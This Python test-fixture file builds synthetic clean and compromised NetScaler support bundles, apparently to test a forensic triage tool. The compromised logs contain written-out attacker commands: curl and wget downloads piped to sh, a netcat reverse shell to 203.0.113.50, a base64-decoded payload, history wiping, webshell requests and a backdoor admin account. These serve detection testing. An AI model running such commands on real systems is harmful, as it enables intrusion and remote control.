"""Artefact sets shaped like what responders actually receive, for ``nscheck triage``.

- ``show techsupport`` collector bundles: ``collector_<P|S>_<NSIP>_<ddMonyyyy>_<hh>_<mm>.tar.gz``
  whose top directory carries the same name (or another one, when the file was renamed), holding
  ``shell/`` command outputs, ``var/log`` (ns.log and friends, rotated ``.N.gz``), ``var/nslog``
  (binary newnslog), ``nsconfig/``; cluster bundles that nest one collector archive per node.
- Responders' own tarballs: ``./``-prefixed members, ``var/`` + ``flash/nsconfig/`` with the
  leading slash stripped, wrapper directories (``evidence/ns1/var/...``), a flat folder of logs.

Log lines follow the appliance's formats (syslog header, ``<facility.level>``, NSIP, the
``MM/DD/YYYY:hh:mm:ss GMT`` stamp, ``ns 0-PPE-0 : default <MODULE> <EVENT> <id> 0 :``). Each
indicator has a clean look-alike in ``clean_bundle()`` that must stay silent.
"""

from __future__ import annotations

import bz2
import gzip
import io
import tarfile
from pathlib import Path

import triage_fixtures as tf
from triage_fixtures import COLLECTED, Spec, f

NAME = "collector_P_10.0.0.10_20Nov2026_11_30"
T_LOG = COLLECTED.timestamp() - 1800


def nslog_line(module_event: str, text: str, *, ts: str = "Nov 20 09:00:00", gmt: str = "11/20/2026:09:00:00") -> str:
    return f"{ts} <local0.info> 10.0.0.10 {gmt} GMT ns 0-PPE-0 : default {module_event} 0 : {text}\n"


def aaa_rejected(user: str) -> str:
    return nslog_line("AAA Message 12345",
                      f' "Authentication is rejected for {user} (client ip : 198.51.100.7 , vserver ip: 10.0.0.21), '
                      'extended error, if any : "')


def tcpconn(user: str, client: str, source: str, sid: str = "55", *, context: bool = True) -> str:
    ctx = f"Context {user}@{client} - SessionId: {sid}- " if context else ""
    return nslog_line("SSLVPN TCPCONNSTAT 123",
                      f"{ctx}User {user} - Client_ip {client} - Nat_ip 10.0.0.2 - Vserver 10.0.0.3:443 - "
                      f"Source {source}:51000 - Destination 10.10.1.5:445 - Start_time \"11/20/2026:08:00:00 GMT\" - "
                      "End_time \"11/20/2026:08:05:00 GMT\" - Duration 00:05:00  - Total_bytes_send 1200 - "
                      "Total_bytes_recv 5300 - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - "
                      "Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - Access Allowed - Group(s) \"staff\"")


def cmd_executed(command: str, user: str = "nsroot") -> str:
    return nslog_line("CLI CMD_EXECUTED 9000", f' User {user} - Remote_ip 198.51.100.9 - Command "{command}" - Status "Success"')


def access(ip: str, method: str, target: str, status: int, size: int | str, ua: str = "Mozilla/5.0") -> str:
    return f'{ip} - - [20/Nov/2026:09:00:00 +0000] "{method} {target} HTTP/1.1" {status} {size} "-" "{ua}"\n'


def bashlog(cmd: str, user: str = "nsroot") -> str:
    return f'Nov 20 10:00:00 <local7.notice> ns bash[4242]: {user} on /dev/pts/0 shell_command="{cmd}"\n'


def gz(text: str) -> bytes:
    return gzip.compress(text.encode("latin-1"), mtime=0)


NS_CONF_HDR = tf.NS_CONF_CLEAN

PS_CLEAN = """USER     PID %CPU %MEM    VSZ   RSS  TT  STAT STARTED      TIME COMMAND
root       1  0.0  0.0   5412   812  -  ILs  Mon09     0:00.02 /sbin/init --
root     402 99.0  4.1 680000 41000  -  Rs   Mon09  3000:00.00 /netscaler/nsppe -z 1
root     510  0.0  0.5  40000  5000  -  Ss   Mon09     0:10.00 /netscaler/nsaaad
nobody   733  0.0  0.6  52000  6200  -  S    Mon09     0:01.00 /bin/httpd -f /etc/httpd.conf
nobody   734  0.0  0.6  52000  6200  -  S    Mon09     0:01.00 /bin/httpd -f /etc/httpd.conf
root    9001  0.0  0.2  20000  2000  0  S+   11:29     0:00.10 /usr/bin/perl /netscaler/showtechsupport.pl -scope NODE
root    9002  0.0  0.1  10000  1000  0  S+   11:29     0:00.01 tar czf /var/tmp/support/collector_P_10.0.0.10_20Nov2026_11_30.tar.gz
"""

NETSTAT_CLEAN = """Active Internet connections (including servers)
Proto Recv-Q Send-Q Local Address          Foreign Address        (state)
tcp4       0      0 10.0.0.10.22           198.51.100.9.50122     ESTABLISHED
tcp4       0      0 10.0.0.10.41022        10.0.0.53.53           ESTABLISHED
tcp4       0      0 *.22                   *.*                    LISTEN
tcp4       0      0 *.80                   *.*                    LISTEN
tcp4       0      0 127.0.0.1.3010         *.*                    LISTEN
udp4       0      0 *.41234                *.*
"""

BASH_CLEAN = "".join(bashlog(c) for c in (
    "cd /var/tmp",
    "ls -l /var/core",
    "df -h",
    "nsconmsg -K /var/nslog/newnslog -d event",
    "curl -k https://10.0.0.20/vpn/index.html",
    "find /var -name '*.php'",
    "chmod 644 /nsconfig/rc.netscaler",
    "chmod +x /var/tmp/TLPCLEAR_check_script_cve-2025-6543-v1.8.sh",
    "sh /var/tmp/netscaler-ir-collector.sh -S",
    "zcat /var/log/ns.log.0.gz | grep -a 'python -c'",
    "python -V",
    "top -b -d 1",
    "tar czf /var/tmp/nsconfig_backup.tgz /nsconfig",
))

BASH_BAD_COMMANDS = (
    "curl -s http://203.0.113.50:8000/x | sh",
    "wget -q http://203.0.113.50/a -O /var/tmp/a",
    "echo ZWNobyBoaQ== | base64 -d | sh",
    "chmod +x /var/tmp/.x/agent",
    "nc -e /bin/sh 203.0.113.50 4444",
    "python3 -c 'import pty;pty.spawn(\\\"/bin/sh\\\")'",
    "find / -perm -4000 -type f",
    "history -c",
)

HTTPACCESS_CLEAN = "".join((
    access("198.51.100.7", "GET", "/logon/LogonPoint/index.html", 200, 4521),
    access("198.51.100.7", "POST", "/p/u/doAuthentication.do", 200, 88),
    access("10.0.0.10", "GET", "/admin_ui/php/application/controllers/common.php?x=1", 200, 120),
    access("127.0.0.1", "GET", "/nitro/v1/stat/system", 200, 800, ua="nsmonitor"),
    # scanners (nscheck scan among them) probing webshell paths: not answered
    access("203.0.113.99", "GET", "/logon/LogonPoint/tmindex.php", 404, 0, ua="nscheck/0.1"),
    access("203.0.113.99", "HEAD", "/logon/LogonPoint/uiareas/linux/adminupevents.php", 404, "-"),
    # a catch-all portal: every unknown script path answered 200 with the same page
    access("203.0.113.98", "GET", "/logon/LogonPoint/a1.php", 200, 4521),
    access("203.0.113.98", "GET", "/logon/LogonPoint/b2.php", 200, 4521),
    access("203.0.113.98", "GET", "/vpn/c3.php", 200, 4521),
    access("203.0.113.98", "GET", "/logon/LogonPoint/index.php", 200, 4521),
    access("203.0.113.97", "HEAD", "/logon/LogonPoint/receiver/js/external/jquery.min.php", 200, "-"),
))

HTTPACCESS_BAD = "".join((
    access("91.107.190.236", "POST", "/logon/LogonPoint/receiver/js/localization/de%2Ephp?cmd=id", 200, 41),
    access("203.0.113.77", "GET", "/vpn/../logon/LogonPoint/custom/s.php", 200, 17),
))


def nslog_clean() -> str:
    return "".join((
        aaa_rejected("jdoe"),
        aaa_rejected("j\xc3\xbcrgen.m\xc3\xbcller"),  # "jürgen.müller" in UTF-8: an international user
        nslog_line("AAA LOGIN_FAILED 12346", 'User j\xfcrgen - Client_ip 198.51.100.8 - Failure_reason "Invalid credentials"'),
        tcpconn("alice", "198.51.100.20", "198.51.100.20"),
        tcpconn("bob smith", "198.51.100.21", "198.51.100.21", sid="56"),
        nslog_line("EVENT DEVICEUP 1", 'Device "server_svc" - State UP'),
        cmd_executed("show ns version"),
        cmd_executed("add system user admin2 -timeout 900"),
        cmd_executed("shell df -h"),
    ))


def nslog_bad() -> str:
    return "".join((
        aaa_rejected("\xa3\xe8\x07\xff\x01"),  # raw leaked bytes
        aaa_rejected("M-^NM-^Q^D"),  # the same, as FreeBSD syslogd writes bytes 0x80-0x9f and controls
        # one stolen session (SessionId 77): five records from two foreign addresses -> one lead
        *(tcpconn("carol", "198.51.100.30", "203.0.113.66", sid="77") for _ in range(3)),
        *(tcpconn("carol", "198.51.100.30", "203.0.113.67", sid="77") for _ in range(2)),
        # field layout without Context/SessionId and a user name with a space
        tcpconn("dave jones", "198.51.100.31", "203.0.113.68", context=False),
        cmd_executed("add system user sec_monitor -timeout 0"),
        cmd_executed("shell curl -s http://203.0.113.50/x -o /var/tmp/x"),
    ))


NEWNSLOG = b"\x00\x01NSLOG\x00" + bytes(range(256)) * 8 + b"\x00event\x00"


def clean_bundle() -> list[Spec]:
    """What a real collector bundle of a healthy Gateway holds (paths relative to the bundle top)."""
    return [
        f("/shell/ps_-auxww.out", PS_CLEAN),
        f("/shell/netstat_-an.out", NETSTAT_CLEAN),
        f("/shell/uptime.out", " 11:30AM  up 3 days,  2:01, 1 user, load averages: 0.10, 0.12, 0.09\n"),
        f("/shell/df_-h.out", "Filesystem Size Used Avail Capacity Mounted on\n/dev/md0 422M 390M 32M 92% /\n"),
        f("/shell/showcmds.txt", "show ns version\n\tNetScaler NS14.1: Build 47.46.nc, Date: Oct 1 2026\n"),
        f("/nsconfig/ns.conf", NS_CONF_HDR),
        f("/nsconfig/ns.conf.0", NS_CONF_HDR),
        f("/nsconfig/rc.netscaler", "# local boot additions\n"),
        f("/var/log/ns.log", nslog_clean().encode("latin-1"), mtime=T_LOG),
        f("/var/log/ns.log.0.gz", gz(nslog_clean())),
        f("/var/log/ns.log.3.gz", gz(nslog_clean())),
        f("/var/log/httpaccess.log", HTTPACCESS_CLEAN, mtime=T_LOG),
        f("/var/log/httpaccess.log.2.gz", gz(HTTPACCESS_CLEAN)),
        f("/var/log/httperror.log", "[Fri Nov 20 09:00:00 2026] [error] [client 198.51.100.7] File does not exist: "
          "/netscaler/ns_gui/favicon.ico\n"),
        f("/var/log/bash.log", BASH_CLEAN, mtime=T_LOG),
        f("/var/log/bash.log.0.gz", gz(BASH_CLEAN)),
        f("/var/log/sh.log", bashlog("ls /var/nslog").replace("bash[", "sh[")),
        f("/var/log/notice.log", "Nov 20 09:00:00 <local0.notice> ns nsnetsvc: started\n"),
        f("/var/log/messages", "Nov 20 08:00:00 ns kernel: em0: link state changed to UP\n"),
        f("/var/log/cron", "Nov 20 09:00:00 ns /usr/sbin/cron[1]: (root) CMD (/usr/libexec/atrun)\n"),
        f("/var/log/auth.log", "Nov 20 09:00:00 ns sshd[1]: Accepted keyboard-interactive/pam for nsroot from 198.51.100.9\n"),
        f("/var/nslog/newnslog", NEWNSLOG),
        f("/var/nslog/newnslog.10.tar.gz", gzip.compress(NEWNSLOG, mtime=0)),
        Spec("/var/core", kind="dir"),
    ]


def bad_bundle() -> list[Spec]:
    bad = BASH_CLEAN + "".join(bashlog(c) for c in BASH_BAD_COMMANDS)
    return tf.merged(clean_bundle(), [
        f("/shell/ps_-auxww.out", PS_CLEAN + "nobody  6666  0.0  0.1  9000  900  -  S    Sun03  0:00.10 /var/tmp/.x/agent -d\n"),
        f("/shell/netstat_-an.out", NETSTAT_CLEAN + "tcp4       0      0 *.37512                *.*                    LISTEN\n"),
        f("/var/log/ns.log.3.gz", gz(nslog_clean() + nslog_bad())),
        f("/var/log/httpaccess.log.2.gz", gz(HTTPACCESS_CLEAN + HTTPACCESS_BAD)),
        f("/var/log/bash.log", bad, mtime=T_LOG),
    ])


# -- writers ---------------------------------------------------------------------------------


def write_tar(specs: list[Spec], path: Path, *, top: str = NAME, dot: bool = False, compress: bool = True) -> Path:
    """Like the collector: one top directory, members in order, ``./`` when ``dot``."""
    with tarfile.open(path, "w:gz" if compress else "w", format=tarfile.GNU_FORMAT) as out:
        _add(out, specs, top, dot)
    return path


def _add(out: tarfile.TarFile, specs: list[Spec], top: str, dot: bool) -> None:
    dirs: set[str] = set()
    for s in specs:
        name = "/".join(p for p in (top, s.path.lstrip("/")) if p)
        if dot:
            name = "./" + name
        parts = name.split("/")
        for i in range(1, len(parts) if s.kind != "dir" else len(parts) + 1):
            d = "/".join(parts[:i])
            if d not in dirs and d != ".":
                dirs.add(d)
                ti = tarfile.TarInfo(d)
                ti.type, ti.mode, ti.mtime = tarfile.DIRTYPE, 0o755, int(tf.INSTALL)
                out.addfile(ti)
        if s.kind == "dir":
            continue
        ti = tarfile.TarInfo(name)
        ti.mode, ti.uid, ti.gid, ti.mtime, ti.size = s.mode, s.uid, s.gid, int(s.mtime), len(s.data)
        out.addfile(ti, io.BytesIO(s.data))


def tar_bytes(specs: list[Spec], top: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.GNU_FORMAT) as out:
        _add(out, specs, top, False)
    return buf.getvalue()


def write_cluster(path: Path, nodes: dict[str, list[Spec]]) -> Path:
    """``show techsupport -scope CLUSTER``: one outer archive holding each node's collector archive."""
    with tarfile.open(path, "w:gz") as out:
        for top, specs in nodes.items():
            data = tar_bytes(specs, top)
            ti = tarfile.TarInfo(f"collector_cluster_10.0.0.100_20Nov2026_11_30/{top}.tar.gz")
            ti.size, ti.mtime = len(data), int(tf.INSTALL)
            out.addfile(ti, io.BytesIO(data))
    return path


def bz(text: str) -> bytes:
    return bz2.compress(text.encode("latin-1"))


def write_dir(specs: list[Spec], root: Path) -> Path:
    """An unpacked copy (directories kept as directories)."""
    tf.write_dir([s for s in specs if s.kind != "dir"], root)
    for s in specs:
        if s.kind == "dir":
            (root / s.path.lstrip("/")).mkdir(parents=True, exist_ok=True)
    return root
